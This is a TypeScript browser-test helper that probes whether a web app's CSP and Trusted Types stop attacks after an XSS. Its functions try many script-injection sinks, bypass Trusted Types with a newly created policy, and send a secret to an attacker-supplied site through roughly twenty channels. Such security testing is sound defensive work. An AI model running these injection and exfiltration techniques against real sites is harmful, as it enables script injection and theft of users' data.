// oxlint-disable unicorn/consistent-function-scoping -- what runs in a page takes no function along from here
import type { Page } from '../fixtures.ts'

/** The outcome of each attempt, by name: its result, or the error that stopped it. */
export type Outcomes = Readonly<Record<string, string>>

/**
 * Runs like a script in the page after an XSS: tries every way to turn text into script. Any script that runs sets
 * `ran`, which also reveals those that are not refused immediately.
 */
export const injectScript = (page: Page): Promise<Outcomes> =>
  page.evaluate(async () => {
    const outcomes: Record<string, string> = {}
    const attempt = async (name: string, act: () => unknown): Promise<void> => {
      try {
        await act()
        outcomes[name] = 'done'
      } catch (error) {
        outcomes[name] = error instanceof Error ? error.name : String(error)
      }
    }
    const set = (element: object, property: string, value: unknown) => () =>
      Reflect.set(element, property, value) ? undefined : Promise.reject(new Error('not set'))
    const code = 'window.ran = true'
    const markup = `<img src="data:," onerror="${code}">`
    const make = (tag: string) => document.createElement(tag)
    // Not directly in the call, because code evaluated by a debugger may use eval.
    await new Promise((resolve) => {
      setTimeout(resolve, 0)
    })
    const range = document.createRange()
    await attempt('innerHTML', set(make('div'), 'innerHTML', markup))
    await attempt('outerHTML', () => {
      const part = document.body.appendChild(make('div'))
      return set(part, 'outerHTML', markup)()
    })
    await attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', markup))
    await attempt('document.write', () => document.write(markup))
    await attempt('createContextualFragment', () => range.createContextualFragment(markup))
    await attempt('parseFromString', () => new DOMParser().parseFromString(markup, 'text/html'))
    await attempt('setHTMLUnsafe', () => make('div').setHTMLUnsafe(markup))
    await attempt('srcdoc', set(make('iframe'), 'srcdoc', markup))
    await attempt('script.src', set(make('script'), 'src', 'data:text/javascript,1'))
    await attempt('script.text', set(make('script'), 'text', code))
    await attempt('onclick attribute', () => make('div').setAttribute('onclick', code))
    // oxlint-disable-next-line no-eval, no-new-func, no-implied-eval
    await attempt('eval', () => (0, eval)(code))
    await attempt('Function', () => Reflect.construct(Function, [code])())
    await attempt('Worker of data', () => new Worker(`data:text/javascript,${code}`))
    await attempt('Worker of blob', () => new Worker(URL.createObjectURL(new Blob([code]))))
    await attempt('service worker', () => navigator.serviceWorker.register('/assets/any.js'))
    const types = Reflect.get(window, 'trustedTypes')
    const policy = { createHTML: (text: string) => text, createScriptURL: (text: string) => text }
    await attempt('policy of another name', () => types.createPolicy('evil', policy))
    await attempt('default policy', () => types.createPolicy('default', policy))
    await attempt('import of data', () => import(/* @vite-ignore */ `data:text/javascript,${code}`))
    await attempt(
      'import of blob',
      () => import(/* @vite-ignore */ URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
    )
    return outcomes
  })

/**
 * Creates a Trusted Types policy under a name that the page allows but has not used yet, as any script in the page can,
 * and tries again what Trusted Types stopped before: now only `script-src` can stop it.
 */
export const injectWithPolicy = (page: Page): Promise<Outcomes> =>
  page.evaluate(async () => {
    const policy = Reflect.get(window, 'trustedTypes').createPolicy('language-worker', {
      createHTML: (text: string) => text,
      createScript: (text: string) => text,
      createScriptURL: (text: string) => text,
    })
    const code = 'window.ran = true'
    const host = document.body.appendChild(document.createElement('div'))
    host.innerHTML = policy.createHTML(`<img src="data:," onerror="${code}"><svg onload="${code}"></svg>`)
    const outcomes: Record<string, string> = {}
    const load = (name: string, part: HTMLElement) =>
      new Promise<void>((resolve) => {
        const tell = (event: Event) => {
          outcomes[name] = event.type
          resolve()
        }
        for (const kind of ['load', 'error', 'securitypolicyviolation']) part.addEventListener(kind, tell)
        document.head.append(part)
        setTimeout(() => resolve(), 300)
      })
    const sources = {
      'script of data': `data:text/javascript,${code}`,
      'script of blob': URL.createObjectURL(new Blob([code])),
      'script of the API': '/api/v2/orgs',
    }
    const scripts = Object.entries(sources).map(([name, source]) => {
      const script = document.createElement('script')
      script.src = policy.createScriptURL(source)
      return load(name, script)
    })
    const inline = document.createElement('script')
    inline.text = policy.createScript(code)
    await Promise.all([...scripts, load('script of text', inline)])
    for (const [name, source] of Object.entries(sources)) {
      outcomes[name.replace('script', 'worker')] = await new Promise<string>((resolve) => {
        try {
          const worker = new Worker(policy.createScriptURL(source))
          worker.addEventListener('error', () => resolve('error'))
          setTimeout(() => resolve('no error'), 1000)
        } catch (error) {
          resolve(error instanceof Error ? error.name : String(error))
        }
      })
      outcomes[name.replace('script', 'service worker')] = await navigator.serviceWorker
        .register(policy.createScriptURL(source))
        .then(
          () => 'registered',
          (error: Error) => error.name,
        )
    }
    return outcomes
  })

/** Tries to send `secret` to the attacker's site in every way that the policy can stop. Returns what the page saw. */
export const exfiltrate = (page: Page, site: string, secret: string): Promise<Outcomes> =>
  page.evaluate(
    async ([to, text]) => {
      const address = (way: string) => `${to}/${way}?${text}`
      const outcomes: Record<string, string> = {}
      const told = async (name: string, act: Promise<unknown>): Promise<void> => {
        outcomes[name] = await act.then(
          (answer) => String(answer),
          (error: unknown) => (error instanceof Error ? error.name : 'error'),
        )
      }
      const add = (part: HTMLElement) =>
        new Promise<string>((resolve) => {
          for (const kind of ['load', 'error']) part.addEventListener(kind, () => resolve(kind))
          setTimeout(() => resolve('nothing'), 500)
          document.body.append(part)
        })
      const make = (tag: string, attributes: Record<string, string>) => {
        const part = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) part.setAttribute(name, value)
        return part
      }
      const tryTo = async (act: () => Promise<string>) => act()
      await Promise.all([
        told('fetch', fetch(address('fetch'), { mode: 'no-cors' })),
        told('keepalive', fetch(address('keepalive'), { method: 'POST', keepalive: true, mode: 'no-cors' })),
        told('image', add(make('img', { src: address('image') }))),
        told('picture set', add(make('img', { srcset: `${address('srcset')} 2x` }))),
        told('style', add(make('link', { rel: 'stylesheet', href: address('style') }))),
        told('prefetch', add(make('link', { rel: 'prefetch', href: address('prefetch') }))),
        told('preload', add(make('link', { rel: 'preload', as: 'image', href: address('preload') }))),
        told('modulepreload', add(make('link', { rel: 'modulepreload', href: address('modulepreload') }))),
        told('icon', add(make('link', { rel: 'icon', href: address('icon') }))),
        told('manifest', add(make('link', { rel: 'manifest', href: address('manifest') }))),
        told('video', add(make('video', { src: address('video'), poster: address('poster') }))),
        told('frame', add(make('iframe', { src: address('frame') }))),
        told(
          'object',
          tryTo(() => add(make('object', { data: address('object') }))),
        ),
        told(
          'embed',
          tryTo(() => add(make('embed', { src: address('embed') }))),
        ),
        told('background', add(make('p', { style: `background: url("${address('background')}")` }))),
        told('font', new FontFace('stolen', `url("${address('font')}")`).load()),
      ])
      outcomes['beacon'] = String(navigator.sendBeacon(address('beacon'), text))
      outcomes['event stream'] = String(new EventSource(address('events')).readyState)
      try {
        outcomes['socket'] = String(new WebSocket(address('socket').replace('http', 'ws')).readyState)
      } catch (error) {
        outcomes['socket'] = error instanceof Error ? error.name : 'error'
      }
      const ping = make('a', { href: '#ping', ping: address('ping') })
      document.body.append(ping)
      ping.click()
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: address('form') })
      document.body.append(form)
      form.submit()
      await new Promise((resolve) => {
        setTimeout(resolve, 300)
      })
      return outcomes
    },
    [site, secret] as const,
  )
